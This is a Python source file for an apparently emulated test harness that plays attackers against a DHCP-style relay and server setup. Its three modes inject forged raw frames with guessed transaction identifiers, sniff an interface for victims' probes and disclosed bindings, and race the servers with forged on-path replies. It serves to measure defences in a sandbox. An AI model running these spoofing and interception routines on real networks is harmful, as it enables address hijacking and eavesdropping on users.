"""Attackers on the wire: they send forged frames, watch what it gets them, or answer on the path.

    python -m lq.emulation.programs.hijacker send PLAN.json
    python -m lq.emulation.programs.hijacker tap PLAN.json
    python -m lq.emulation.programs.hijacker on-path PLAN.json

All print `ready`, and end on SIGTERM; `send` also by itself. Then `report_file` of the plan has a report:

send     sends what a `ForgeryPlan` says; a `ForgeryReport`
tap      counts what is not its own (`TapPlan`); a `TapReport`
on-path  answers in the servers' place (`OnPathPlan`); an `OnPathReport`
"""

from __future__ import annotations

import random
import signal
import socket
import sys
import time
from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from ipaddress import IPv4Address
from pathlib import Path
from threading import Event
from typing import Any

from lq.emulation.forgeries import XID_AT, guesses
from lq.emulation.programs.flood import FloodReport, flood
from lq.sandbox import plans
from lq.wire import MalformedMessage, MessageType, OptionCode, decode
from topologies.population.probes import PORT

MOST_ANSWERS = 10_000
MOST_STOLEN = 200_000  # packets noted one by one
_ETH_P_ALL, _OUTGOING, _UDP = 0x0003, 4, 17
_IPV4 = b"\x08\x00"
_BUFFER = 8 << 20


Row = tuple[int, bytes, int]
"""A trial's number, a frame, and how many guesses it stands for (0: it is sent as it is, once a round)."""


@dataclass(frozen=True, kw_only=True)
class ForgeryPlan:
    """What to send: `rows`, in so many `rounds`, each of which lasts `every` seconds; `seed` of the guesses.

    With `wait` it begins on SIGUSR1.
    """

    interface: str
    rows: tuple[Row, ...]
    rounds: int
    every: float
    wait: bool
    seed: int
    report_file: Path = Path()


@dataclass(frozen=True, kw_only=True)
class ForgeryReport(FloodReport):
    """What was sent; `sent`: frames by trial."""

    sent: dict[int, int]


@dataclass(frozen=True, kw_only=True)
class TapPlan:
    """Whom to look for: hardware addresses of `victims` by address, and message types that name a binding."""

    interface: str
    victims: dict[str, bytes]
    answers: tuple[int, ...]
    report_file: Path = Path()


@dataclass(frozen=True, kw_only=True)
class TapReport:
    """What came by: `stolen`, the address and the moment (monotonic clock, seconds) of each victim's probe.

    `disclosed`: victims' addresses that answers named, with their number.
    """

    stolen: tuple[tuple[str, float], ...]
    disclosed: dict[str, int]


@dataclass(frozen=True, kw_only=True)
class Forged:
    """The frames by which to answer: one for each server, by its address; and the trial that they are of."""

    trial: int
    frames: dict[str, bytes]


@dataclass(frozen=True, kw_only=True)
class OnPathPlan:
    """What to answer, between relay and servers; at most `MOST_ANSWERS` frames are sent.

    queries   by the address that a LEASEQUERY is about
    requests  by the transaction identifier of a REQUEST
    """

    interface: str
    queries: dict[str, Forged]
    requests: dict[int, Forged]
    report_file: Path = Path()


@dataclass(frozen=True, kw_only=True)
class OnPathReport:
    """Frames sent by trial."""

    sent: dict[int, int]


class _Ended(Exception):
    """SIGTERM came."""


def _end(*_: Any) -> None:
    raise _Ended


# -- sending


def order(rows: Sequence[Row], rounds: int, seed: int) -> Iterator[tuple[int, bytes]]:
    """Go through all that is sent: trial and frame, round by round.

    Guesses are spread over the rounds, and within one between the other frames.
    """
    plain = [(trial, frame) for trial, frame, guessed in rows if not guessed]
    forged = []
    for trial, frame, guessed in rows:
        identifiers = random.Random(f"{seed} {trial}").sample(range(1 << 32), guessed)
        forged.append([(trial, each) for each in guesses(frame, identifiers)])
    mixed = [each for several in zip(*filter(None, forged), strict=False) for each in several]
    for number in range(rounds):
        share = mixed[len(mixed) * number // rounds : len(mixed) * (number + 1) // rounds]
        between = len(share) / max(1, len(plain))
        at = 0.0
        for each in plain:
            yield each
            yield from share[round(at) : round(at + between)]
            at += between
        yield from share[round(at) :]


def send(plan: ForgeryPlan, begin: Callable[[Event], None]) -> ForgeryReport:
    """Send until all is sent, or told to stop."""
    sequence = list(order(plan.rows, plan.rounds, plan.seed))
    rate = max(1.0, len(sequence) / (plan.rounds * plan.every))
    ended = Event()
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as out:
        out.bind((plan.interface, 0))
        begin(ended)
        frames = [frame for _, frame in sequence]
        report = flood(out, frames, rate, len(frames), ended)
    tried = report.packets + report.refused
    return ForgeryReport(**vars(report), sent=dict(Counter(trial for trial, _ in sequence[:tried])))


# -- watching


def tap(plan: TapPlan) -> TapReport:
    """Watch until told to stop."""
    by_octets = {IPv4Address(address).packed: address for address in plan.victims}
    by_mac = {mac: address for address, mac in plan.victims.items()}
    answers, clock = set(plan.answers), time.monotonic
    probe = PORT.to_bytes(2, "big")
    stolen: list[tuple[str, float]] = []
    disclosed: Counter[str] = Counter()
    with _listening(plan.interface) as ear:
        print("ready", flush=True)
        try:
            while True:
                frame, (_, _, kind, *_) = ear.recvfrom(4096)
                if kind == _OUTGOING or frame[12:14] != _IPV4 or frame[23] != _UDP:
                    continue
                start = 14 + (frame[14] & 15) * 4
                if frame[start + 2 : start + 4] == probe:
                    address = by_octets.get(frame[30:34])
                    if address is not None and len(stolen) < MOST_STOLEN:
                        stolen.append((address, clock()))
                else:
                    named = _named(frame[start + 8 :], answers, by_mac, by_octets)
                    if named is not None:
                        disclosed[named] += 1
        except _Ended:
            return TapReport(stolen=tuple(stolen), disclosed=dict(disclosed))


def _named(
    octets: bytes, answers: set[int], by_mac: dict[bytes, str], by_octets: dict[bytes, str]
) -> str | None:
    """Return the address of the victim whose binding a message tells, None if it tells none."""
    try:
        message = decode(octets)
    except MalformedMessage:
        return None
    if message.message_type not in answers:
        return None
    if message.chaddr in by_mac:
        return by_mac[message.chaddr]
    personal = {OptionCode.CLIENT_IDENTIFIER, OptionCode.RELAY_AGENT_INFORMATION} & message.options.keys()
    return by_octets.get(message.ciaddr.packed) if personal or message.chaddr else None


def _listening(interface: str) -> socket.socket:
    """Return a packet socket that hears everything on an interface."""
    ear = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(_ETH_P_ALL))
    ear.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, _BUFFER)
    ear.bind((interface, 0))
    return ear


# -- on the path


def on_path(plan: OnPathPlan) -> OnPathReport:
    """Answer until told to stop."""
    queries = {IPv4Address(key).packed: _ready(value) for key, value in plan.queries.items()}
    requests = {key.to_bytes(4, "big"): _ready(value) for key, value in plan.requests.items()}
    query = bytes((OptionCode.MESSAGE_TYPE, 1, MessageType.LEASEQUERY))
    asked = bytes((OptionCode.MESSAGE_TYPE, 1, MessageType.REQUEST))
    sent: Counter[int] = Counter()
    with _listening(plan.interface) as ear:
        print("ready", flush=True)
        try:
            while True:
                frame, (_, _, kind, *_) = ear.recvfrom(4096)
                # All at fixed places: who answers first wins. The relay sends option 53 first, no IP options.
                told = frame[282:285]
                if kind == _OUTGOING or frame[12:14] != _IPV4 or told not in (query, asked):
                    continue
                xid = frame[XID_AT : XID_AT + 4]
                found = queries.get(frame[54:58]) if told == query else requests.get(xid)
                if found is None or sum(sent.values()) >= MOST_ANSWERS:
                    continue
                trial, by_server = found
                forged = by_server.get(frame[30:34])
                if forged is not None:
                    ear.send(forged[:XID_AT] + xid + forged[XID_AT + 4 :])
                    sent[trial] += 1
        except _Ended:
            return OnPathReport(sent=dict(sent))


def _ready(forged: Forged) -> tuple[int, dict[bytes, bytes]]:
    """Return a trial's number, and its frame for each server."""
    return forged.trial, {IPv4Address(server).packed: frame for server, frame in forged.frames.items()}


def _begin(ended: Event, wait: bool) -> None:
    """Say `ready`, wait to be told to begin if need be, and have SIGTERM end it."""
    waited_for = {signal.SIGUSR1, signal.SIGTERM}
    if wait:
        signal.pthread_sigmask(signal.SIG_BLOCK, waited_for)
    signal.signal(signal.SIGTERM, lambda *_: ended.set())
    print("ready", flush=True)
    if wait:
        if signal.sigwait(waited_for) == signal.SIGTERM:
            ended.set()
        signal.pthread_sigmask(signal.SIG_UNBLOCK, waited_for)


def main(what: str, path: Path) -> None:
    """Do what is asked for, and write the report."""
    report: ForgeryReport | TapReport | OnPathReport
    plan: ForgeryPlan | TapPlan | OnPathPlan
    if what == "send":
        plan = sending = plans.read(ForgeryPlan, path)
        report = send(sending, lambda ended: _begin(ended, sending.wait))
        plans.save(report, plan.report_file)
        return
    signal.signal(signal.SIGTERM, _end)
    if what == "tap":
        plan = plans.read(TapPlan, path)
        report = tap(plan)
    else:
        plan = plans.read(OnPathPlan, path)
        report = on_path(plan)
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    plans.save(report, plan.report_file)


if __name__ == "__main__":
    main(sys.argv[1], Path(sys.argv[2]))
